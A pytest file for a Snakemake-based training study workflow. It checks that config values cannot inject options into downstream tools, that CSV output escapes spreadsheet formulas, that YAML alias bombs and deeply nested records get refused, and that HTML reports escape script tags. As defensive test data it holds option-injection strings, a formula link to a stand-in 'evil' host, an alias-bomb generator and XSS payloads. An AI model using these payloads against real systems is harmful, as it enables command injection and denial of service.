"""Values that reach another tool (issue: a site's review): every one is of its kind,
checked at plan time, never an option of the tool it reaches; every schema pattern
means its whole value (no trailing newline slips past a ``$``)."""

from __future__ import annotations

import json
import re

import pytest

from tests.runs import REFUSE_WITHIN_S, dry_run, failed, jobs, limited_dry_run
from workflow_scripts.spec.settings import BUDGET_PATTERN
from workflow_scripts.study import StudyConfigError, load_study
from workflow_scripts.study.schema import StudyValidator, build_schema

#: a value each schema pattern accepts (a new pattern needs its sample here)
SAMPLES = {
    "^[A-Za-z0-9][A-Za-z0-9._-]{0,49}$": "quick",
    "^[A-Za-z0-9][A-Za-z0-9._-]{0,99}$": "bf16-cl",
    "^[a-z][a-z0-9.-]{0,31}$": "bookworm",
    "^(https?|file)://[^\\s\\x00-\\x1f]+$": "http://deb.debian.org/debian",
    "^[a-z0-9][a-z0-9._/:-]*@sha256:[0-9a-f]{64}$": "debian@sha256:" + "0" * 64,
    "^[^-\\x00-\\x1f][^\\x00-\\x1f]*$": "/srv/study wheels",
    "^[a-z0-9][a-z0-9._/-]*$": "localhost/cpu-train-study",
    "^[0-9]+[bkmg]?$": "2g",
    "^[0-9]+[kmg]?$": "512m",
    BUDGET_PATTERN: "1.5h",
    "^(gloo|ccl-(shm|tcp)(-offload)?)$": "ccl-shm",
    "^[A-Za-z0-9_][A-Za-z0-9_.+-]{0,127}$": "cpu_long",
    "^[A-Za-z0-9_(\\[][A-Za-z0-9_.&|*,:()\\[\\]-]{0,255}$": "avx512&bf16",
    "^[A-Za-z0-9_][A-Za-z0-9._:-]{0,14}$": "eth0",
    "^[A-Za-z0-9_][A-Za-z0-9_;.-]{0,63}$": "tcp",
    "^[^-:,\\x00-\\x1f][^:,\\x00-\\x1f]*$": "/data/images",
    "^[0-9]+(-[0-9]+)?(,[0-9]+(-[0-9]+)?)*$": "0-3,6",
    "^[A-Za-z_][A-Za-z0-9_]*$": "OMP_NUM_THREADS",
}


def patterns(node) -> set[str]:
    found = set()
    if isinstance(node, dict):
        if isinstance(node.get("pattern"), str):
            found.add(node["pattern"])
        for value in node.values():
            found |= patterns(value)
    elif isinstance(node, list):
        for value in node:
            found |= patterns(value)
    return found


def test_every_schema_pattern_means_the_whole_value():
    schema = build_schema()
    found = patterns(schema)
    assert found <= set(SAMPLES), f"patterns without a sample: {found - set(SAMPLES)}"
    for pattern in found:
        check = StudyValidator({"type": "string", "pattern": pattern})
        sample = SAMPLES[pattern]
        assert check.is_valid(sample), (pattern, sample)
        # Python's $ matches before a final newline; the study's validator does not
        assert re.search(pattern, sample + "\n")  # (what the plain keyword would let in)
        assert not check.is_valid(sample + "\n"), pattern
        assert not check.is_valid(sample + "\nmore"), pattern
        # and no value that starts with '-' is one a tool could read as an option
        assert not check.is_valid("-" + sample) or pattern.startswith("^[0-9]"), pattern


#: hostile values, each of the setting's kind in form only: (override, where)
HOSTILE = [
    ({"containers": {"base": {"mirror": "--customize-hook=touch /tmp/owned"}}},
     "containers.base.mirror"),
    ({"containers": {"base": {"suite": "--setup-hook=id"}}}, "containers.base.suite"),
    ({"containers": {"base": {"suite": "bookworm\n"}}}, "containers.base.suite"),
    ({"containers": {"base": {"source": "registry", "image": "--help@sha256:" + "0" * 64}}},
     "containers.base.image"),
    ({"containers": {"wheelhouse": "--index-url=http://evil"}}, "containers.wheelhouse"),
    ({"containers": {"archive": "-o/etc/passwd"}}, "containers.archive"),
    ({"cluster": {"partition": "--wrap=id"}}, "cluster.partition"),
    ({"cluster": {"account": "a b"}}, "cluster.account"),
    ({"cluster": {"constraint": "-x"}}, "cluster.constraint"),
    ({"cluster": {"network_interface": "-i"}}, "cluster.network_interface"),
    ({"cluster": {"fabric_provider": "--x"}}, "cluster.fabric_provider"),
    ({"envs_root": "--target=/"}, "envs_root"),
    ({"python": "-c"}, "python"),
    ({"container_engine_conf": "-x"}, "container_engine_conf"),
    ({"groups": {"g": {"runs": [{"id": "a", "data": "image_folder", "data_dir": "/srv:/etc"}]}}},
     "groups.g.runs[0].data_dir"),
    ({"groups": {"g": {"runs": [{"id": "a\n"}]}}}, "groups.g.runs[0].id"),
    ({"groups": {"g": {"runs": [{"id": "a", "cpus": "0-1\n"}]}}}, "groups.g.runs[0].cpus"),
]  # fmt: skip


@pytest.mark.parametrize(("override", "where"), HOSTILE, ids=[w for _, w in HOSTILE])
def test_a_value_that_a_tool_could_read_as_an_option_is_refused(override, where):
    config = {"groups": {"g": {"runs": [{"id": "a"}]}}, **override}
    with pytest.raises(StudyConfigError) as info:
        load_study(config)
    assert f"config error at {where}: " in str(info.value), str(info.value)
    assert "is not allowed; allowed:" in str(info.value)


def test_through_snakemake_a_hostile_mirror_is_refused_before_any_job(wd):
    proc = dry_run(wd, "containers={base: {mirror: '--customize-hook=touch /tmp/owned'}}")
    out = failed(proc)
    expected = (
        "config error at containers.base.mirror: '--customize-hook=touch /tmp/owned' is "
        "not allowed; allowed: a mirror's URL"
    )
    assert expected in out, out[-2000:]
    ok = dry_run(wd, "containers={base: {mirror: 'http://deb.debian.org/debian'}}",
                 study={"groups": {"g": {"runs": [{"id": "a"}]}}})  # fmt: skip
    assert jobs(ok) == 2, json.dumps(ok.stderr[-2000:])


def test_summary_csv_never_holds_a_formula(tmp_path):
    """Free text (a group, an error) that a spreadsheet would run as a formula is
    written quoted; numbers (negative ones too) stay numbers."""
    import pandas as pd

    from tests.fixture_records import make, write
    from workflow_scripts import report
    from workflow_scripts.summary import records as rec

    hostile = '=HYPERLINK("http://evil","x")'
    records = [make("baseline", k, 10.0 + k, group=hostile) for k in range(2)]
    records += [make("bf16", 0, 20.0, group="@SUM(1+1)", precision="bf16")]
    # a rung that adds a knob: its comparison's change reads "+ channels_last"
    records += [make("cl", k, 12.0 + k, group=hostile, channels_last=True) for k in range(2)]
    loaded = rec.load_records(write(tmp_path, records))
    report.build_report(
        loaded, report.Outputs(tmp_path / "summary.csv", tmp_path / "r/index.html", tmp_path)
    )
    summary = pd.read_csv(tmp_path / "summary.csv")
    assert set(summary["group"]) == {"'" + hostile, "'@SUM(1+1)"}
    assert (summary["samples_per_s"] > 0).all()  # numbers as they were
    # comparisons.csv too: a change that starts with + or - (what a rung adds or drops)
    comparisons = pd.read_csv(tmp_path / "comparisons.csv")
    changes = comparisons["change"].dropna().astype(str)
    assert not changes.str.startswith(("=", "+", "-", "@")).any(), changes
    assert "'+ channels_last" in set(changes), changes
    assert (comparisons["ratio"] > 0).all()


# --------------------------------------------------------------------------- plan-time limits


def alias_bomb(levels: int = 30) -> str:
    """YAML whose aliases nest 2**levels values into a few lines."""
    lines = ["bomb0: &b0 [lol, lol]"]
    lines += [f"bomb{i}: &b{i} [*b{i - 1}, *b{i - 1}]" for i in range(1, levels)]
    return "\n".join(lines) + "\n"


def test_through_snakemake_an_alias_bomb_in_config_yaml_is_refused_in_seconds(wd):
    original = (wd / "config.yaml").read_text()
    try:
        (wd / "config.yaml").write_text(original + "\n" + alias_bomb())
        proc, took = limited_dry_run(wd)
    finally:
        (wd / "config.yaml").write_text(original)
    out = failed(proc)
    assert "config.yaml has more than 200000 values (YAML aliases count each time" in out, out[
        -2000:
    ]
    assert took < REFUSE_WITHIN_S and len(out) < 20_000


def test_through_snakemake_an_alias_bomb_in_a_configfile_is_refused_in_seconds(wd):
    """(A --configfile is read by Snakemake before the workflow's code: a bomb of lists
    reaches the workflow as shared objects; the file, read again as the study reads its
    own, is refused by its size before anything walks Snakemake's copy.)"""
    (wd / "bomb.yaml").write_text("groups: {g: {runs: [{id: a}]}}\n" + alias_bomb())
    proc, took = limited_dry_run(wd, "--configfile", "bomb.yaml")
    out = failed(proc)
    assert "bomb.yaml has more than 200000 values (YAML aliases count" in out, out[-2000:]
    assert took < REFUSE_WITHIN_S and len(out) < 20_000


@pytest.mark.parametrize(
    ("study", "expected"),
    [
        (  # 99 x 99 experiments from one sweep: counted, never expanded
            {
                "groups": {
                    "g": {
                        "runs": [
                            {
                                "name": "s",
                                "batch_size": list(range(1, 100)),
                                "seed": list(range(99)),
                            }
                        ]
                    }
                },
            },
            "config error at limits.experiments: the study asks for 9801 experiments",
        ),
        (
            {"groups": {"g": {"runs": [{"id": "a"}]}}, "trials": 2, "max_trials": 10**9},
            "config error at limits.trials: 1 experiments x up to 1000000000 trials",
        ),
        (
            {"groups": {"g": {"runs": [{"id": "a", "cpus": "0-99999"}]}}},
            "is not a CPU list (CPU 99999 is beyond any machine's",
        ),
        (
            {"groups": {"g": {"runs": [{"id": "a", "seed": 1, "env_vars": {"X": "y" * 10**6}}]}}},
            "characters) is longer than allowed: at most 4096 characters",
        ),
        (
            {"groups": {"g": {"runs": [{"id": "big", "model": "bert-base", "batch_size": 65536}]}}},
            "it would be killed for memory; refused (limits: {over_memory: true} runs it",
        ),
        (
            {"groups": {"g": {"runs": [{"id": "a", "probe_size": 10**6}]}}},
            "probe_size: 1000000 is not allowed; allowed: an integer >= 0 and <= 16384",
        ),
    ],
    ids=["sweep", "trials", "cpus", "long-value", "memory", "probe"],
)
def test_through_snakemake_what_a_config_asks_beyond_limits_is_refused(wd, study, expected):
    proc, took = limited_dry_run(wd, study=study)
    out = failed(proc)
    assert expected in out, out[-2000:]
    assert took < REFUSE_WITHIN_S and len(out) < 20_000


def test_the_limits_are_raised_on_purpose(wd):
    study = {"trials": 1, "groups": {"g": {"runs": [{"name": "s", "seed": list(range(30))}]}}}
    proc, _ = limited_dry_run(wd, "limits={experiments: 10}", study=study)
    assert "more than the limit of 10" in failed(proc)
    proc, _ = limited_dry_run(wd, "limits={experiments: 30}", study=study)
    assert jobs(proc) == 30, (proc.stdout + proc.stderr)[-2000:]


def test_a_record_nested_deeper_than_any_the_harness_writes_is_a_crashed_record(tmp_path):
    """Records left by anything (a crash, a hand, another version) are read: a deeply
    nested, truncated or huge one is a crashed record naming the file, and the summary
    and report are still built."""
    from tests.fixture_records import make, write
    from workflow_scripts import report
    from workflow_scripts.summary import records as rec

    paths = write(tmp_path, [make("baseline", k, 10.0 + k) for k in range(2)])
    deep = tmp_path / "records" / "deep" / "trial0.json"
    deep.parent.mkdir(parents=True)
    deep.write_text("[" * 200_000 + "]" * 200_000)
    nested = tmp_path / "records" / "nested" / "trial0.json"
    nested.parent.mkdir(parents=True)
    nested.write_text(
        json.dumps({"spec": {"id": "nested"}, "x": [[[[[[[[[[[[[]] * 1]]]]]]]]]]] * 10}).replace(
            "[]", "[" * 70 + "]" * 70
        )
    )
    loaded = rec.load_records([*paths, deep, nested])
    bad = {r["experiment"]: r["error"]["message"] for r in loaded if r["status"] == "crashed"}
    assert "nested too deeply to parse" in bad["deep"], bad
    assert "nested deeper than 64 levels" in bad["nested"], bad
    report.build_report(
        loaded, report.Outputs(tmp_path / "summary.csv", tmp_path / "r/index.html", tmp_path)
    )
    assert (tmp_path / "r" / "index.html").stat().st_size > 0


def test_another_machines_results_and_a_data_folder_are_searched_within_bounds(tmp_path):
    """A results path given for another machine, or a data folder, that holds a huge
    tree is refused at plan time with the setting's name, after a bounded search."""
    from workflow_scripts.study import machine
    from workflow_scripts.summary import machine_results

    tree = tmp_path / "tree"
    for i in range(30):
        (tree / f"d{i}").mkdir(parents=True)
        for j in range(10):
            (tree / f"d{i}" / f"f{j}.txt").touch()
    # found within bounds: the nearest records folder, however deep
    deep = tree / "d3" / "run" / "records" / "a"
    deep.mkdir(parents=True)
    (deep / "trial0.json").write_text("{}")
    assert machine_results.result_files(tree) == [deep / "trial0.json"]
    config = {
        "groups": {"g": {"runs": [{"id": "a", "data": "image_folder", "data_dir": str(tree)}]}},
        "report": {"machines": [{"name": "other", "results": str(tree)}]},
    }
    old = machine_results.WALK_MAX_ENTRIES, machine.COUNT_MAX_ENTRIES
    machine_results.WALK_MAX_ENTRIES = machine.COUNT_MAX_ENTRIES = 100
    try:
        (deep / "trial0.json").unlink()
        with pytest.raises(StudyConfigError) as info:
            machine.check_machine(load_study(config))
    finally:
        machine_results.WALK_MAX_ENTRIES, machine.COUNT_MAX_ENTRIES = old
    message = str(info.value)
    assert "config error at report.machines[0].results: " in message
    assert "more than 100 entries searched for records/" in message
    assert "config error at experiment a.data_dir: " in message
    assert "more than 100 entries, 0 images among them" in message


def test_free_text_from_records_is_never_markup_in_the_report(tmp_path):
    """Groups, errors and ids come from configs and records, which anyone may have
    written: the report shows them as text, never as markup a browser would run."""
    from tests.fixture_records import make, write
    from workflow_scripts import report
    from workflow_scripts.summary import records as rec

    hostile = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    records = [make("baseline", k, 10.0 + k, group=hostile) for k in range(2)]
    records += [make("bf16", k, 20.0 + k, group=hostile, precision="bf16") for k in range(2)]
    broken = make("broken", 0, 5.0, group=hostile)
    broken.update(status="crashed", error={"type": "RuntimeError", "message": hostile})
    loaded = rec.load_records(write(tmp_path, [*records, broken]))
    report.build_report(
        loaded, report.Outputs(tmp_path / "summary.csv", tmp_path / "r/index.html", tmp_path)
    )
    page = (tmp_path / "r" / "index.html").read_text()
    assert "<script>alert" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
